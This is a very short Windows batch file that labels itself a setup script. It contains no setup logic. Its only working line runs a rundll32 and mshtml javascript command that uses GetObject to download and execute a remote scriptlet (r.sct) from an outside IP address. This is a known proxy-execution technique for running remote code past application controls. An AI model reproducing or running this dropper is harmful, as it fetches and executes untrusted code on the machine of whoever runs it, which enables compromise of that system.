REM setup 5243 v0
@echo off
set geze=rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://198.51.100.9/r.sct")
call %geze%
